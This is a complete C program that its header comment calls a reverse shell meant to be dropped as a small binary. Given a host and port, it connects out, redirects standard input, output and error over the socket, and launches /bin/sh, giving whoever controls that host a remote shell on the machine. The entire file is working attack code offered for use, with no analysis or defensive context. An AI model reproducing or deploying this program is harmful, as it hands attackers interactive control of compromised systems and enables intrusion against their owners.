/* A reverse shell as a small dropped binary: connect, dup2 the socket over stdio, exec /bin/sh.
 * usage: revshell HOST PORT */
#include <arpa/inet.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[2])) };
  inet_pton(AF_INET, argv[1], &a.sin_addr);
  if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return 1;
  for (int fd = 0; fd < 3; fd++) dup2(s, fd);
  char *sh[] = { "sh", 0 };
  execv("/bin/sh", sh);
  return 1;
}
